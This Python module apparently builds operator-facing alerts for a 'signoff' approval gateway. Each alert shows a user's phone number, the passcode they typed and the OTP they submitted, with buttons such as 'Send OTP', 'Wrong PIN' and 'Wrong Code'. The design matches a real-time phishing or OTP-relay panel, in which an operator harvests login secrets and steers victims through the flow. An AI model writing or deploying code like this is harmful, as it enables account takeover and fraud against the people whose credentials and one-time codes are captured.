"""Approver-facing message catalog.

Texts are plain; the gateway takes care of channel markup and escaping.
"""

from __future__ import annotations

from dataclasses import dataclass

from signoff.core.types import KIND_ACTIONS, Action, ApprovalKind, Outcome
from signoff.interfaces.base import ApprovalAction, ApprovalMessage

PAYLOAD_SEPARATOR = "|"

ACTION_LABELS: dict[Action, str] = {
    Action.SEND_OTP: "✅ Send OTP",
    Action.WRONG_PIN: "❌ Wrong PIN",
    Action.OTP_OK: "✅ Continue",
    Action.OTP_WRONG: "❌ Wrong Code",
}


@dataclass(frozen=True)
class OutcomeText:
    title: str
    body: str
    ack: str


# ``body`` is formatted with the subject.
OUTCOME_TEXTS: dict[Outcome, OutcomeText] = {
    Outcome.OTP_ALLOWED: OutcomeText(
        "✅ OTP Sent", "User {subject} may now enter their OTP code.", "✅ OTP sent to user"
    ),
    Outcome.WRONG_PIN: OutcomeText(
        "❌ Wrong PIN",
        "User {subject} has been notified their PIN is incorrect.",
        "❌ Wrong PIN sent to user",
    ),
    Outcome.OTP_CORRECT: OutcomeText(
        "✅ Login Approved", "User {subject} has been allowed in.", "✅ User allowed in"
    ),
    Outcome.OTP_WRONG: OutcomeText(
        "❌ Wrong Code",
        "User {subject} has been notified to re-enter their OTP.",
        "❌ Wrong code sent to user",
    ),
}


def encode_payload(action: Action, token: str) -> str:
    return f"{action.value}{PAYLOAD_SEPARATOR}{token}"


def decode_payload(payload: str) -> tuple[str, str] | None:
    """Split ``action|token``; None when the shape is wrong."""
    parts = payload.split(PAYLOAD_SEPARATOR)
    if len(parts) != 2:
        return None
    return parts[0], parts[1]


def approval_message(
    kind: ApprovalKind,
    subject: str,
    token: str | None = None,
    otp: str | None = None,
    passcode: str | None = None,
) -> ApprovalMessage:
    fields = [("📱 Phone", subject)]
    if kind is ApprovalKind.LOGIN:
        title = "🔔 New Login Alert"
        footer = "User is waiting on the OTP screen."
    elif kind is ApprovalKind.OTP:
        title = "🔐 OTP Submitted"
        fields.append(("🔑 OTP", otp or ""))
        footer = "Choose an action:"
    else:
        title = "🔄 Resend Code Requested"
        footer = "User has requested a new OTP code."
    if passcode and kind is not ApprovalKind.RESEND:
        fields.append(("🔒 Passcode", passcode))

    actions = []
    if token is not None:
        actions = [
            ApprovalAction(ACTION_LABELS[action], encode_payload(action, token))
            for action in KIND_ACTIONS[kind]
        ]
    return ApprovalMessage(title=title, fields=fields, footer=footer, actions=actions)


def decision_message(outcome: Outcome, subject: str) -> ApprovalMessage:
    text = OUTCOME_TEXTS[outcome]
    return ApprovalMessage(title=text.title, footer=text.body.format(subject=subject))
